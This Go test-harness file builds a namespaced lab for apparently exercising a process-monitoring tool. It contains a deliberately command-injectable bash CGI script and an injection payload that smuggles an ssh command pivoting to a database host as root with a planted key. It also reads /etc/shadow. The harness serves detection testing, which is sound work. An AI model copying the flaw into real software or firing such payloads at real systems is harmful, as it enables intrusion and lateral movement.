// Package scenario builds the attack of issue 7 with real software on hosts
// of internal/testnet, for `make demo` and the end-to-end tests: web-1 runs
// Debian's apache2 with mod_cgi and a CGI script with a command-injection
// flaw; db-1 runs Debian's sshd; an attacker host sends the request. The
// injected command makes bash (exec'd by the CGI script, a child of an
// apache2 worker) run ssh, with a key the harness prepared and left on
// web-1, to db-1, where sshd runs commands in a shell:
//
//	attacker --HTTP--> web-1: apache2 -> apache2 (worker) -> bash -> ssh
//	                                                                |
//	                   db-1:  sshd -> sshd -> sshd -> bash <--SSH---+
//
// It sits outside the data flow: it makes the hosts and the activity that
// agents (scoped to a host with capture.Scope, agent.scope
// "netns:"+Host.NamespacePath()) observe. It starts no agent itself.
//
// Each daemon runs inside its host's network namespace (and its own UTS
// namespace, so that `uname -n` says the host's name) from a configuration,
// pid file, logs and keys under one temporary directory; the machine's own
// /etc/apache2, /etc/ssh and their services are never used or touched.
// Close, registered with t.Cleanup, kills everything and removes the
// namespaces and the directory, also when a test fails; Sweep removes what
// crashed runs left. Everything needs root.
package scenario

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/evilbitlabs/daemoneye/internal/testnet"
)

// Host names.
const (
	WebHost      = "web-1"
	DBHost       = "db-1"
	AttackerHost = "attacker"
)

// The CGI script and the account its worker runs as.
const (
	// ScriptName is the flawed CGI script, at /cgi-bin/ScriptName.
	ScriptName = "lookup.cgi"
	// WebUser runs apache2's workers, the CGI and so the ssh client
	// (Debian's www-data).
	WebUser = "www-data"
	// DBUser is the account the injected ssh logs in as on db-1: root,
	// so that the harness need not add an account to the machine. Its
	// key is authorized only by the scenario's own sshd, which listens
	// only on db-1's address.
	DBUser = "root"
)

// DefaultRemoteCommand is what the attack runs on db-1 by default: it
// prints db-1's host name (its own UTS namespace), the account, and the
// SSH connection (web-1's address and port, db-1's address and port 22),
// which together show the commands ran under db-1's sshd.
const DefaultRemoteCommand = `echo "db-host=$(uname -n)"; echo "db-user=$(id -un)"; echo "db-ssh=$SSH_CONNECTION"; uname -sr`

const (
	// startTimeout bounds the wait for a daemon to answer.
	startTimeout = 20 * time.Second
	// attackTimeout bounds an attack whose context has no deadline.
	attackTimeout = 2 * time.Minute
	// cmdTimeout bounds helper commands (ssh-keygen, config tests).
	cmdTimeout = 30 * time.Second
)

// DirPrefix starts the name of every scenario's directory, in os.TempDir:
// DirPrefix + "<pid>-<random>".
const DirPrefix = "daemoneye-scenario-"

// Options shape a scenario.
type Options struct {
	// ExtraHosts are added after web-1, db-1 and the attacker, in order,
	// for the roles an end-to-end test places on their own hosts ("proxy-1",
	// "center"). Nothing runs on them.
	ExtraHosts []string
	// ConnectRoot joins the test process's own namespace to the network
	// (testnet.Net.ConnectRoot), for a center run in-process.
	ConnectRoot bool
	// Log receives progress; nil discards it.
	Log *slog.Logger
	// BeforeDaemons, when set, is called once the hosts exist and before
	// sshd and apache2 start (Dir and the hosts are set; URL and the pids
	// are not yet). Agents scoped to the hosts start here, so that they
	// see the daemons start: an agent ships what it captures, not the
	// processes it found running when it started, so the center knows a
	// daemon's processes (apache2's worker, sshd's listener, the parents
	// in the attack's lineage) only if the agent saw them start. An error
	// fails Build.
	BeforeDaemons func(*Scenario) error
}

// Scenario is one built scenario. Its fields are set by Build and must not
// be changed.
type Scenario struct {
	Net      *testnet.Net
	Web      *testnet.Host
	DB       *testnet.Host
	Attacker *testnet.Host
	// Extra are Options.ExtraHosts, by name.
	Extra map[string]*testnet.Host

	// Dir holds everything the scenario wrote: web-1/ (apache2's config,
	// logs, run dir, cgi-bin, and the ssh key the attack uses) and db-1/
	// (sshd's config, host key, authorized_keys, log).
	Dir string
	// ApachePID and SSHDPID are the main processes of the daemons.
	ApachePID int
	SSHDPID   int
	// KeyPath is the private key left on web-1 (owned by WebUser) that
	// the injected ssh uses; db-1's sshd authorizes it for DBUser.
	KeyPath string
	// URL is the CGI script's address, without a query.
	URL string

	log    *slog.Logger
	cancel context.CancelFunc
	procs  []*daemon

	closeOnce sync.Once
	closeErr  error
}

// daemon is a started server process.
type daemon struct {
	name string
	cmd  *exec.Cmd
	done chan struct{} // closed when Wait returned
	err  error         // Wait's result, once done is closed
	logs []string      // its log files, for Logs
}

// Build builds the scenario: the hosts, apache2 on web-1 and sshd on db-1,
// both answering when it returns. The software must be installed
// (Install); errors about what is missing wrap ErrMissing. When t is not
// nil, Close is registered with t.Cleanup and a failing Close fails the
// test; otherwise the caller must call Close. On error everything built so
// far is removed.
func Build(t testing.TB, opts Options) (s *Scenario, err error) {
	if t != nil {
		t.Helper()
	}
	if os.Geteuid() != 0 {
		return nil, errors.New("scenario: needs root (network namespaces, daemons as other users)")
	}
	if m := Missing(); len(m) > 0 {
		return nil, fmt.Errorf("scenario: packages %s not installed (scenario.Install or testdata/scenario/install.sh): %w", strings.Join(m, " "), ErrMissing)
	}
	log := opts.Log
	if log == nil {
		log = slog.New(slog.DiscardHandler)
	}
	ctx, cancel := context.WithCancel(context.Background())
	s = &Scenario{log: log.With("component", "scenario"), cancel: cancel, Extra: map[string]*testnet.Host{}}
	defer func() {
		if err != nil {
			if cerr := s.Close(); cerr != nil {
				err = errors.Join(err, cerr)
			}
			s = nil
		}
	}()

	dir, err := os.MkdirTemp("", DirPrefix+strconv.Itoa(os.Getpid())+"-")
	if err != nil {
		return s, fmt.Errorf("scenario: %w", err)
	}
	s.Dir = dir
	// apache2's workers and the CGI run as www-data and must reach their
	// files below it.
	if err := os.Chmod(dir, 0o755); err != nil {
		return s, fmt.Errorf("scenario: %w", err)
	}

	if s.Net, err = testnet.New(nil, "scenario"); err != nil {
		return s, fmt.Errorf("scenario: %w", err)
	}
	for _, h := range []struct {
		name string
		dst  **testnet.Host
	}{{WebHost, &s.Web}, {DBHost, &s.DB}, {AttackerHost, &s.Attacker}} {
		if *h.dst, err = s.Net.AddHost(h.name); err != nil {
			return s, fmt.Errorf("scenario: %w", err)
		}
	}
	for _, name := range opts.ExtraHosts {
		h, err := s.Net.AddHost(name)
		if err != nil {
			return s, fmt.Errorf("scenario: %w", err)
		}
		s.Extra[name] = h
	}
	if opts.ConnectRoot {
		if _, err := s.Net.ConnectRoot(); err != nil {
			return s, fmt.Errorf("scenario: %w", err)
		}
	}
	s.log.Info("hosts ready", "net", s.Net.ID(), "web", s.Web.Addr, "db", s.DB.Addr, "attacker", s.Attacker.Addr)
	if opts.BeforeDaemons != nil {
		if err := opts.BeforeDaemons(s); err != nil {
			return s, fmt.Errorf("scenario: before the daemons: %w", err)
		}
	}

	if err := s.startSSHD(ctx); err != nil {
		return s, fmt.Errorf("scenario: db-1 sshd: %w", err)
	}
	if err := s.startApache(ctx); err != nil {
		return s, fmt.Errorf("scenario: web-1 apache2: %w", err)
	}
	s.log.Info("scenario ready", "url", s.URL, "apache2_pid", s.ApachePID, "sshd_pid", s.SSHDPID, "dir", s.Dir)
	if t != nil {
		t.Cleanup(func() {
			if err := s.Close(); err != nil {
				t.Errorf("scenario: close: %v", err)
			}
		})
	}
	return s, nil
}

// Hosts returns every host of the scenario: web-1, db-1, the attacker and
// the extra hosts, in the order they were added.
func (s *Scenario) Hosts() []*testnet.Host { return s.Net.Hosts() }

// Scope returns the capture scope setting (agent.scope) of an agent that
// watches host h: its network namespace.
func Scope(h *testnet.Host) string { return "netns:" + h.NamespacePath() }

// startSSHD prepares db-1's sshd and the key web-1 will use, starts sshd
// and waits for its banner.
func (s *Scenario) startSSHD(ctx context.Context) error {
	webDir := filepath.Join(s.Dir, WebHost)
	dbDir := filepath.Join(s.Dir, DBHost)
	for _, d := range []string{filepath.Join(webDir, "ssh"), filepath.Join(dbDir, "run")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return err
		}
	}
	// The client key the attacker finds on web-1 (a deploy key, say),
	// readable by the CGI's account only, as ssh requires.
	s.KeyPath = filepath.Join(webDir, "ssh", "id_ed25519")
	if err := keygen(ctx, s.KeyPath, "deploy@"+WebHost); err != nil {
		return err
	}
	www, err := lookupUser(WebUser)
	if err != nil {
		return err
	}
	if err := os.Chown(s.KeyPath, www.uid, www.gid); err != nil {
		return err
	}
	hostKey := filepath.Join(dbDir, "ssh_host_ed25519_key")
	if err := keygen(ctx, hostKey, "root@"+DBHost); err != nil {
		return err
	}
	pub, err := os.ReadFile(s.KeyPath + ".pub")
	if err != nil {
		return err
	}
	authKeys := filepath.Join(dbDir, "authorized_keys")
	if err := os.WriteFile(authKeys, pub, 0o600); err != nil {
		return err
	}
	// sshd's privilege-separated child chroots here; Debian's service
	// makes it at start (RuntimeDirectory), and the scenario does not
	// start the service.
	if err := os.MkdirAll("/run/sshd", 0o755); err != nil {
		return err
	}
	usePAM := "no"
	if rootLocked() {
		// Without PAM, sshd refuses every login to an account whose
		// password is locked ("!"); pam_unix allows key logins to it.
		usePAM = "yes"
	}
	conf := filepath.Join(dbDir, "sshd_config")
	cfg := fmt.Sprintf(`# db-1's sshd for the DaemonEye scenario; nothing else uses it.
ListenAddress %s:22
HostKey %s
PidFile %s
AuthorizedKeysFile %s
AllowUsers %s
PermitRootLogin prohibit-password
PubkeyAuthentication yes
PasswordAuthentication no
KbdInteractiveAuthentication no
# The files live below a world-writable /tmp, which StrictModes refuses.
StrictModes no
UsePAM %s
UseDNS no
PrintMotd no
PrintLastLog no
X11Forwarding no
AllowTcpForwarding no
PermitTunnel no
LogLevel VERBOSE
`, s.DB.Addr, hostKey, filepath.Join(dbDir, "run", "sshd.pid"), authKeys, DBUser, usePAM)
	if err := os.WriteFile(conf, []byte(cfg), 0o644); err != nil {
		return err
	}
	if out, err := run(ctx, SSHDBin, "-t", "-f", conf); err != nil {
		return fmt.Errorf("config test: %w: %s", err, out)
	}
	logPath := filepath.Join(dbDir, "sshd.log")
	// sshd re-executes itself for each connection, so it must be started
	// by its absolute path.
	d, err := s.start(ctx, s.DB, "sshd", logPath, SSHDBin, "-D", "-e", "-f", conf)
	if err != nil {
		return err
	}
	s.SSHDPID = d.cmd.Process.Pid
	return s.waitReady(d, func() error {
		c, err := s.Web.DialContext(ctx, "tcp", netip.AddrPortFrom(s.DB.Addr, 22).String())
		if err != nil {
			return err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(2 * time.Second))
		banner, err := bufio.NewReader(c).ReadString('\n')
		if err != nil {
			return err
		}
		if !strings.HasPrefix(banner, "SSH-2.0-") {
			return fmt.Errorf("unexpected banner %q", banner)
		}
		return nil
	})
}

// cgiScript is the flawed CGI: a "host lookup" page that hands its query
// parameter to a shell command line unquoted. It execs bash, so the shell
// is the apache2 worker's own child (the CGI process), as in a web shell or
// a PHP system() call.
const cgiScript = `#!/bin/bash
# lookup.cgi: resolve a host name for the operations team.
# FLAW (on purpose): the name goes into a shell command line unquoted, so
# ?host=x;id runs id as the web server's account.
q=${QUERY_STRING#*host=}
q=${q%%&*}
q=${q//+/ }
host=$(printf '%b' "${q//%/\\x}")
printf 'Content-Type: text/plain\r\n\r\n'
echo "lookup: $host"
exec /bin/bash -c "getent hosts $host || echo 'not found'"
`

// startApache writes web-1's apache2 configuration and CGI script, starts
// apache2 and waits until it answers HTTP.
func (s *Scenario) startApache(ctx context.Context) error {
	webDir := filepath.Join(s.Dir, WebHost)
	dirs := map[string]string{}
	for _, d := range []string{"run", "log", "htdocs", "cgi-bin"} {
		dirs[d] = filepath.Join(webDir, d)
		if err := os.MkdirAll(dirs[d], 0o755); err != nil {
			return err
		}
	}
	if err := os.WriteFile(filepath.Join(dirs["htdocs"], "index.html"), []byte("<h1>web-1</h1>\n"), 0o644); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dirs["cgi-bin"], ScriptName), []byte(cgiScript), 0o755); err != nil {
		return err
	}
	conf := filepath.Join(webDir, "apache2.conf")
	cfg := fmt.Sprintf(`# web-1's apache2 for the DaemonEye scenario; nothing else uses it.
ServerRoot %[1]q
ServerName %[2]s
Listen %[3]s:80
PidFile %[4]q
DefaultRuntimeDir %[5]q
ErrorLog %[6]q
LogLevel warn
User %[7]s
Group %[7]s

LoadModule mpm_prefork_module %[8]s/mod_mpm_prefork.so
LoadModule authz_core_module %[8]s/mod_authz_core.so
LoadModule alias_module %[8]s/mod_alias.so
LoadModule cgi_module %[8]s/mod_cgi.so

StartServers 1
MinSpareServers 1
MaxSpareServers 2
MaxRequestWorkers 8

LogFormat "%%h %%l %%u %%t \"%%r\" %%>s %%b" common
CustomLog %[9]q common

DocumentRoot %[10]q
<Directory />
	AllowOverride None
	Require all denied
</Directory>
<Directory %[10]q>
	Require all granted
</Directory>
ScriptAlias /cgi-bin/ %[11]q
<Directory %[12]q>
	Options +ExecCGI
	Require all granted
</Directory>
`, webDir, WebHost, s.Web.Addr, filepath.Join(dirs["run"], "apache2.pid"), dirs["run"],
		filepath.Join(dirs["log"], "error.log"), WebUser, ModulesDir,
		filepath.Join(dirs["log"], "access.log"), dirs["htdocs"], dirs["cgi-bin"]+"/", dirs["cgi-bin"])
	if err := os.WriteFile(conf, []byte(cfg), 0o644); err != nil {
		return err
	}
	if out, err := run(ctx, Apache2Bin, "-t", "-f", conf); err != nil {
		return fmt.Errorf("config test: %w: %s", err, out)
	}
	d, err := s.start(ctx, s.Web, "apache2", filepath.Join(dirs["log"], "stderr.log"), Apache2Bin, "-f", conf, "-DFOREGROUND")
	if err != nil {
		return err
	}
	d.logs = append(d.logs, filepath.Join(dirs["log"], "error.log"), filepath.Join(dirs["log"], "access.log"))
	s.ApachePID = d.cmd.Process.Pid
	s.URL = "http://" + s.Web.Addr.String() + "/cgi-bin/" + ScriptName
	return s.waitReady(d, func() error {
		_, err := s.get(ctx, "http://"+s.Web.Addr.String()+"/index.html")
		return err
	})
}

// start runs a daemon in host h, in its own UTS namespace named after the
// host, with stdout and stderr in logPath. unshare and sh exec the daemon,
// so the returned process is the daemon itself.
func (s *Scenario) start(ctx context.Context, h *testnet.Host, name, logPath, bin string, args ...string) (*daemon, error) {
	lf, err := os.OpenFile(logPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	defer lf.Close()
	argv := append([]string{"--uts", "--", "/bin/sh", "-c", `echo "$0" >/proc/sys/kernel/hostname && exec "$@"`, h.Name, bin}, args...)
	cmd := h.Command(ctx, "unshare", argv...)
	cmd.Env = []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LANG=C"}
	cmd.Dir = "/"
	cmd.Stdout, cmd.Stderr = lf, lf
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	d := &daemon{name: name, cmd: cmd, done: make(chan struct{}), logs: []string{logPath}}
	go func() {
		d.err = cmd.Wait()
		close(d.done)
	}()
	s.procs = append(s.procs, d)
	return d, nil
}

// waitReady polls ready until it succeeds, the daemon exits, or
// startTimeout passes.
func (s *Scenario) waitReady(d *daemon, ready func() error) error {
	deadline := time.Now().Add(startTimeout)
	for {
		err := ready()
		if err == nil {
			return nil
		}
		select {
		case <-d.done:
			return fmt.Errorf("%s exited at start (%v):\n%s", d.name, d.err, d.tailLogs())
		default:
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("%s not answering after %v: %w\n%s", d.name, startTimeout, err, d.tailLogs())
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func (d *daemon) tailLogs() string {
	var b strings.Builder
	for _, p := range d.logs {
		data, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		fmt.Fprintf(&b, "--- %s\n%s\n", p, tail(string(data), 4000))
	}
	return b.String()
}

// Logs returns the end of every daemon log, for a failing test's report.
func (s *Scenario) Logs() string {
	var b strings.Builder
	for _, d := range s.procs {
		b.WriteString(d.tailLogs())
	}
	return b.String()
}

// Payload returns the value of the CGI's host parameter that injects an ssh
// to db-1 running remote (a shell command line without single quotes) as
// DBUser. ssh's own errors are part of the response. The lookup it rides on
// is of an address /etc/hosts names: the hosts have no DNS server, and a
// lookup that asks one waits for its timeouts.
func (s *Scenario) Payload(remote string) (string, error) {
	if strings.ContainsRune(remote, '\'') {
		return "", fmt.Errorf("scenario: remote command %q holds a single quote", remote)
	}
	return fmt.Sprintf("127.0.0.1; ssh -F /dev/null -i %s -o BatchMode=yes -o IdentitiesOnly=yes"+
		" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o GlobalKnownHostsFile=/dev/null"+
		" -o LogLevel=ERROR -o ConnectTimeout=10 %s@%s '%s' 2>&1",
		s.KeyPath, DBUser, s.DB.Addr, remote), nil
}

// AttackURL returns the request that exploits the CGI with Payload(remote).
func (s *Scenario) AttackURL(remote string) (string, error) {
	p, err := s.Payload(remote)
	if err != nil {
		return "", err
	}
	return s.URL + "?host=" + url.QueryEscape(p), nil
}

// Attack sends the exploit from the attacker host: an HTTP GET of
// AttackURL(remote) to web-1:80 ("" runs DefaultRemoteCommand). It returns
// the response body, which holds the output of the commands run on db-1.
// Without a deadline in ctx it gives up after two minutes.
func (s *Scenario) Attack(ctx context.Context, remote string) (string, error) {
	if remote == "" {
		remote = DefaultRemoteCommand
	}
	u, err := s.AttackURL(remote)
	if err != nil {
		return "", err
	}
	body, err := s.get(ctx, u)
	if err != nil {
		return body, fmt.Errorf("scenario: attack: %w", err)
	}
	return body, nil
}

// Lookup sends the page's intended use from the attacker host: a lookup of
// name, without injection. It returns the response body. A name that
// /etc/hosts lacks waits for DNS timeouts: the hosts reach no DNS server.
func (s *Scenario) Lookup(ctx context.Context, name string) (string, error) {
	return s.get(ctx, s.URL+"?host="+url.QueryEscape(name))
}

// get fetches u from the attacker host and returns the body; a status other
// than 200 is an error.
func (s *Scenario) get(ctx context.Context, u string) (string, error) {
	if _, ok := ctx.Deadline(); !ok {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, attackTimeout)
		defer cancel()
	}
	tr := &http.Transport{
		// Sockets made in the attacker's namespace keep it alive until
		// closed: no connection outlives the request.
		DisableKeepAlives: true,
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return s.Attacker.DialContext(ctx, network, addr)
		},
	}
	defer tr.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return "", err
	}
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return string(b), err
	}
	if resp.StatusCode != http.StatusOK {
		return string(b), fmt.Errorf("GET %s: %s", u, resp.Status)
	}
	return string(b), nil
}

// Close stops the daemons, kills whatever else runs in the hosts, deletes
// the namespaces and removes Dir. It keeps going past failures and returns
// them all; later calls return the first call's result.
func (s *Scenario) Close() error {
	s.closeOnce.Do(func() {
		var errs []error
		if s.cancel != nil {
			s.cancel() // kills each daemon's process group
		}
		for _, d := range s.procs {
			select {
			case <-d.done:
			case <-time.After(startTimeout):
				errs = append(errs, fmt.Errorf("%s (pid %d) did not end within %v", d.name, d.cmd.Process.Pid, startTimeout))
			}
		}
		// The daemons' children (apache2 workers, sshd sessions) left
		// their process groups: Net.Close finds them by namespace.
		if s.Net != nil {
			if err := s.Net.Close(); err != nil {
				errs = append(errs, err)
			}
		}
		if s.Dir != "" {
			if err := os.RemoveAll(s.Dir); err != nil {
				errs = append(errs, err)
			}
		}
		if len(errs) > 0 {
			s.closeErr = fmt.Errorf("scenario: close: %w", errors.Join(errs...))
		}
	})
	return s.closeErr
}

// Sweep removes what crashed runs left behind: their namespaces (with
// every process still in them, testnet.Sweep) and the directories of
// scenarios whose process no longer runs. It returns what it removed.
func Sweep() ([]string, error) {
	removed, err := testnet.Sweep(testnet.Prefix)
	dirs, gerr := filepath.Glob(filepath.Join(os.TempDir(), DirPrefix+"*"))
	for _, d := range dirs {
		pidStr, _, ok := strings.Cut(strings.TrimPrefix(filepath.Base(d), DirPrefix), "-")
		pid, perr := strconv.Atoi(pidStr)
		if !ok || perr != nil || pid <= 0 || processAlive(pid) {
			continue
		}
		if rerr := os.RemoveAll(d); rerr != nil {
			err = errors.Join(err, rerr)
			continue
		}
		removed = append(removed, d)
	}
	return removed, errors.Join(err, gerr)
}

func processAlive(pid int) bool {
	p, err := os.FindProcess(pid)
	if err != nil {
		return false
	}
	err = p.Signal(syscall.Signal(0))
	return err == nil || errors.Is(err, os.ErrPermission)
}

type account struct{ uid, gid int }

func lookupUser(name string) (account, error) {
	u, err := user.Lookup(name)
	if err != nil {
		return account{}, fmt.Errorf("account %s (Debian's apache2 runs as it): %w", name, err)
	}
	uid, err1 := strconv.Atoi(u.Uid)
	gid, err2 := strconv.Atoi(u.Gid)
	if err1 != nil || err2 != nil {
		return account{}, fmt.Errorf("account %s: uid %q gid %q", name, u.Uid, u.Gid)
	}
	return account{uid, gid}, nil
}

// rootLocked reports whether root's password is locked ("!" in
// /etc/shadow), which sshd without PAM takes as a locked account.
func rootLocked() bool {
	f, err := os.Open("/etc/shadow")
	if err != nil {
		return false
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if rest, ok := strings.CutPrefix(sc.Text(), DBUser+":"); ok {
			return strings.HasPrefix(rest, "!")
		}
	}
	return false
}

// keygen makes an ed25519 key pair without a passphrase at path and
// path.pub.
func keygen(ctx context.Context, path, comment string) error {
	if out, err := run(ctx, KeygenBin, "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", path); err != nil {
		return fmt.Errorf("ssh-keygen: %w: %s", err, out)
	}
	return nil
}

// run runs a helper command to its end, bounded by cmdTimeout.
func run(ctx context.Context, name string, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, cmdTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.WaitDelay = time.Second
	out, err := cmd.CombinedOutput()
	return strings.TrimSpace(string(out)), err
}
